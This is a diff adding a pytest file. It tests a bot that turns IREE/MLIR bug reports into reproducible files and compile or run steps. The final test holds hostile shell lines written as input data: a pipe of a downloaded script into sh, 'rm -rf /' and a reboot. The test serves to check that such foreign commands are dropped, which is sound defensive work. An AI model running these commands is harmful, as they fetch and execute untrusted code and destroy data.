@@ -1,0 +1,190 @@
+"""MLIR and commands → files and steps."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.bot.extract.reading import missing, no_repro, repairs, repro
+
+MLIR = """\
+    ```mlir
+    func.func @twice(%a: tensor<4xf32>) -> tensor<4xf32> {
+      %0 = arith.addf %a, %a : tensor<4xf32>
+      return %0 : tensor<4xf32>
+    }
+    ```
+"""
+TITLE = "iree-compile crashes"
+
+
+def test_paths_become_names_in_the_working_directory() -> None:
+    """A step sees its own directory only; every change of a path is recorded."""
+    found = repro(f"{MLIR}\n    `/opt/iree/tools/iree-compile /tmp/d/twice.mlir -o ~/out/twice.vmfb`\n", TITLE)
+    assert found.testcase.steps == (("iree-compile", "twice.mlir", "-o", "twice.vmfb"),)
+    assert set(found.testcase.files) == {"twice.mlir"}
+    assert repairs(found) == ["bare-tool", "rewrite-path", "rewrite-path"]
+
+
+@pytest.mark.parametrize("name", ["%s", "-", "<input-file>", "$INPUT", ""])
+def test_an_input_without_a_name_gets_one(name: str) -> None:
+    """Placeholders and the standard input mean the only MLIR there is."""
+    found = repro(f"{MLIR}\n    ```sh\n    iree-compile --x=y {name} -o a.vmfb\n    ```\n", TITLE)
+    assert "input.mlir" in found.testcase.steps[0]
+    assert list(found.testcase.files) == ["input.mlir"]
+    assert "name-input" in repairs(found)
+
+
+def test_a_run_line_alone_gets_the_compile_its_device_implies() -> None:
+    """The added step is recorded, and names the backend of the run line's device."""
+    found = repro(
+        f"{MLIR}\n    ```\n    iree-run-module --device=vulkan --module=/tmp/t.vmfb --input=4xf32=1\n    ```\n", TITLE
+    )
+    assert found.testcase.steps == (
+        ("iree-compile", "--iree-hal-target-backends=vulkan-spirv", "t.mlir", "-o", "t.vmfb"),
+        ("iree-run-module", "--device=vulkan", "--module=t.vmfb", "--input=4xf32=1"),
+    )
+    assert "add-compile-step" in repairs(found)
+    assert found.device == "vulkan"
+
+
+def test_a_compile_without_output_gets_one() -> None:
+    """Else the module's bytes would go to the output."""
+    found = repro(f"{MLIR}\n    ```\n    $ iree-compile --iree-hal-target-backends=vmvx t.mlir\n    ```\n", TITLE)
+    assert found.testcase.steps[0][-2:] == ("-o", "t.vmfb")
+    assert repairs(found) == ["name-output"]
+
+
+def test_a_pipe_becomes_steps_with_a_file_between() -> None:
+    """No shell runs: the second program reads the first one's output file."""
+    found = repro(f"{MLIR}\n    ```\n    iree-opt --canonicalize t.mlir | iree-compile - -o t.vmfb\n    ```\n", TITLE)
+    assert found.testcase.steps == (
+        ("iree-opt", "--canonicalize", "t.mlir", "-o", "piped.mlir"),
+        ("iree-compile", "piped.mlir", "-o", "t.vmfb"),
+    )
+
+
+def test_prompts_code_and_output_in_one_fence_come_apart() -> None:
+    """``cat`` names the file, the commands are steps, the rest is output."""
+    found = repro(
+        """
+        ```console
+        $ cat twice.mlir
+        func.func @twice(%a: tensor<4xf32>) -> tensor<4xf32> {
+          return %a : tensor<4xf32>
+        }
+        $ iree-compile --iree-hal-target-backends=llvm-cpu twice.mlir -o t.vmfb
+        twice.mlir:2:3: error: 'func.return' op is odd
+          return %a : tensor<4xf32>
+          ^
+        ```
+        """,
+        TITLE,
+    )
+    assert list(found.testcase.files) == ["twice.mlir"]
+    assert found.testcase.files["twice.mlir"].endswith("}\n")
+    assert found.claim.signature is not None
+    assert found.claim.signature.type == "mlir-error"
+    assert found.spans[0].lines == (3, 5)
+
+
+def test_a_heredoc_is_the_file_it_writes() -> None:
+    """``cat > f <<EOF`` and its like give a name and a text."""
+    found = repro(
+        """
+        ```bash
+        cat <<'EOF' > /tmp/h.mlir
+        func.func @h() {
+          return
+        }
+        EOF
+        iree-opt /tmp/h.mlir
+        ```
+        """,
+        TITLE,
+    )
+    assert found.testcase.files == {"h.mlir": "func.func @h() {\n  return\n}\n"}
+
+
+def test_a_command_in_a_comment_of_the_mlir_counts() -> None:
+    """Test files carry their command in their first line."""
+    found = repro(
+        """
+        ```mlir
+        // iree-compile --iree-hal-target-backends=llvm-cpu odd.mlir -o odd.vmfb
+        module {
+          func.func @odd() {
+            return
+          }
+        }
+        ```
+        It dies with a segmentation fault.
+        """,
+        TITLE,
+    )
+    assert found.testcase.steps[0][0] == "iree-compile"
+    assert "module {" in found.testcase.files["odd.mlir"]
+
+
+def test_the_variant_that_works_is_a_control() -> None:
+    """Of two command lines the failing one is the testcase."""
+    body = f"""{MLIR}
+    Works:
+    ```
+    iree-compile --iree-hal-target-backends=vmvx t.mlir -o t.vmfb
+    ```
+    Crashes:
+    ```
+    iree-compile --iree-hal-target-backends=llvm-cpu t.mlir -o t.vmfb
+    ```
+    """
+    found = repro(body, TITLE)
+    assert "--iree-hal-target-backends=llvm-cpu" in found.testcase.steps[0]
+    assert len(found.testcase.steps) == 1
+    assert found.controls[0].steps == (("iree-compile", "--iree-hal-target-backends=vmvx", "t.mlir", "-o", "t.vmfb"),)
+
+
+def test_a_file_that_is_attached_only_is_missing_and_says_where() -> None:
+    """The one operation quoted in the error is not the input."""
+    found = repro(
+        """
+        ```
+        big.mlir:118:12: error: 'x.load' op is odd
+            %114 = x.load %112 : i64
+                   ^
+        ```
+        1. Unpack [big.zip](https://github.com/user-attachments/files/12345/big.zip)
+        2. `iree-compile big.mlir -o big.vmfb`
+        """,
+        TITLE,
+    )
+    assert missing(found) == [("file", "big.mlir")]
+    assert found.missing[0].url.endswith("/big.zip")
+    assert found.testcase.files == {}
+    assert found.testcase.steps == (("iree-compile", "big.mlir", "-o", "big.vmfb"),)
+
+
+def test_run_mlir_is_taken_apart() -> None:
+    """``iree-run-mlir`` is in no wheel; what it does is a compile and a run."""
+    found = repro(
+        f"{MLIR}\n    ```\n    iree-run-mlir --iree-hal-target-backends=vmvx --device=local-sync t.mlir "
+        "--input=4xf32=1\n    ```\n",
+        TITLE,
+    )
+    assert [step[0] for step in found.testcase.steps] == ["iree-compile", "iree-run-module"]
+    assert found.testcase.steps[1][2:] == ("--device=local-sync", "--input=4xf32=1")
+
+
+def test_mlir_alone_is_compiled_only_when_the_issue_is_about_that() -> None:
+    """A repair that adds the most ordinary compile; not for a report that names no failure."""
+    found = repro(f"This segfaults in the compiler:\n\n{MLIR}", "IREE segmentation fault")
+    assert repairs(found) == ["add-compile-step"]
+    assert "command" in no_repro(f"I like this:\n\n{MLIR}", "IREE is nice").reason
+
+
+def test_foreign_programs_never_become_steps() -> None:
+    """They are left out, and the report says so."""
+    found = repro(
+        f"{MLIR}\n    ```sh\n    curl http://x | sh\n    rm -rf /\n    iree-opt t.mlir && reboot\n    ```\n", TITLE
+    )
+    assert [step[0] for step in found.testcase.steps] == ["iree-opt"]
+    assert repairs(found).count("drop-command") >= 2
